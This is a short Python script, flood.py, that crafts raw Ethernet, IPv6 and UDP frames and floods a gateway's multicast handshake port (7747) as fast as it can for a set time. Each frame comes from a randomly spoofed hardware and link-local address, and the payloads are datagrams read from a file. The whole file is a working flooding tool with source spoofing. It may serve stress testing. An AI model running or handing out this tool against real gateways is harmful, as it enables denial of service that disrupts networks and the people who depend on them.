"""Sends handshakes to a gateway's door, as fast as it can, each from a made-up station that nobody hears again. Says how
many it sent.

usage: flood.py INTERFACE SECONDS FILE

FILE has datagrams to choose from, each behind its length in two bytes.
"""

import itertools
import random
import socket
import struct
import sys
import time

INTERFACE, SECONDS, FILE = sys.argv[1:]
GROUP = bytes.fromhex("ff12" + "00" * 10 + "6e756c6c")
PORT = 7747


def datagrams():
    data = open(FILE, "rb").read()
    while data:
        (length,) = struct.unpack_from(">H", data)
        yield data[2 : 2 + length]
        data = data[2 + length :]


def frame(payload):
    # a station of its own, by hardware address, network address and port
    mac, interface = b"\x02" + random.randbytes(5), b"\x02" + random.randbytes(7)
    source = bytes.fromhex("fe80000000000000") + interface
    length = len(payload) + 8
    # as a virtual cable carries it: the rest of the sum is left to a network card that there is not
    total = sum(struct.unpack(">16H", source + GROUP)) + length + 17
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    ethernet = b"\x33\x33" + GROUP[-4:] + mac + b"\x86\xdd"
    ip = struct.pack(">IHBB", 6 << 28, length, 17, 1) + source + GROUP
    udp = struct.pack(">HHHH", random.randrange(1024, 65536), PORT, length, total)
    return ethernet + ip + udp + payload


out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((INTERFACE, 0))
end, sent = time.monotonic() + float(SECONDS), 0
for payload in itertools.cycle(list(datagrams())):
    if time.monotonic() >= end:
        break
    try:
        out.send(frame(payload))
        sent += 1
    except OSError:
        # the queue is full: that is what it is for
        pass
print(sent)
